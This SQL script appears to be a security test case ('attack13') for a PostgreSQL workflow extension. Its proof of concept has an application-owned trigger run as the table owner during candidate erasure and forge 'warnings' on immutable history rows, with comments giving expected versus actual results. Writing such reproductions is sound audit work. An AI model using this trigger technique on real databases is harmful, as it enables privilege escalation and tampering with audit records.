-- attack13 01: a trigger on stage_transition (or alert_event) that the DBA added in the additions
-- script ("Changing the extension's tables"), whose function the application role owns, runs
-- during erase_candidate()'s step 3 as the tables' OWNER (README: step 3 "runs no user-definable
-- code") and inside the erasing window, where stage_transition_immutable lets through ANY UPDATE
-- that changes only `warnings` of that candidate's rows, to ANY value (it does not check that the
-- new value is the redaction, nor that the row is one erase_candidate selected).
-- Expected: the user trigger's UPDATE of another history row is refused (55000 history_immutable),
--           or step 3 fires no user-definable code at all; warnings only ever become the redaction.
-- Actual:   the trigger runs as the owner (current_user = postgres) and forges warnings on a history
--           row whose warnings were '[]' (the removal row of the erasure itself): it commits.
-- Run as a superuser on a fresh database, from the repository root: psql -X -f this file.
\set SHOW_CONTEXT never
SET client_min_messages = warning;
CREATE EXTENSION IF NOT EXISTS workflow_ext;
DO $$ BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'workflow_app') THEN CREATE ROLE workflow_app NOLOGIN; END IF;
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'app') THEN CREATE ROLE app LOGIN; END IF;
END $$;
\i examples/app-grants.sql
GRANT workflow_app TO app;
RESET client_min_messages;
CREATE SCHEMA a13 AUTHORIZATION app;
CREATE TABLE a13.seen (who text, what text);
GRANT ALL ON a13.seen TO PUBLIC;
-- the application's function (owned by the application role, as its own code)
SET ROLE app;
CREATE FUNCTION a13.audit() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO a13.seen VALUES (current_user, 'row ' || NEW.id);
  -- forge another history row of the same candidate while the window is open
  UPDATE public.stage_transition SET warnings = '[{"forged": "by the application, as the owner"}]'
   WHERE tenant = NEW.tenant AND candidate_id = NEW.candidate_id AND warnings = '[]';
  RETURN NEW;
END $$;
RESET ROLE;
-- the additions script (DBA): an audit trigger on history
CREATE TRIGGER zz_audit AFTER UPDATE ON stage_transition FOR EACH ROW
  WHEN (pg_trigger_depth() < 2) EXECUTE FUNCTION a13.audit();

SET ROLE app;
BEGIN;
SET LOCAL workflow_ext.tenant = 'org:a';
SET LOCAL workflow_ext.actor = 'user:ann';
INSERT INTO workflow (name) VALUES ('W');
INSERT INTO workflow_stage (workflow_id, name, position, kind) VALUES
  (1,'Applied',1,'normal'),(1,'Screen',2,'normal'),(1,'Hired',3,'hired');
INSERT INTO stage_rule (stage_id, name, condition, on_fail)
  VALUES (2, 'portfolio', '{"field": "email", "op": "ends_with", "value": "@portfolio.example"}', 'warn');
SELECT assign_workflow(100, 1);
INSERT INTO candidate_profile (candidate_id, attributes) VALUES (5, '{"email": "jane@private.example"}');
SELECT add_candidate(5, 100);
SELECT to_stage_name, warnings->0->>'actual' AS actual FROM move_to_next_stage(5, 100);
COMMIT;

BEGIN;
SET LOCAL workflow_ext.tenant = 'org:a';
SET LOCAL workflow_ext.actor = 'user:admin';
SET LOCAL workflow_ext.tenant_admin = on;
SELECT * FROM erase_candidate(5);
COMMIT;
RESET ROLE;
SELECT * FROM a13.seen;                                   -- actual: postgres | row N  (the owner)
SELECT id, to_status, reason, warnings FROM stage_transition WHERE candidate_id = 5 ORDER BY id;
-- actual: the entry and the erasure's removal row carry the forged warnings (they had '[]')
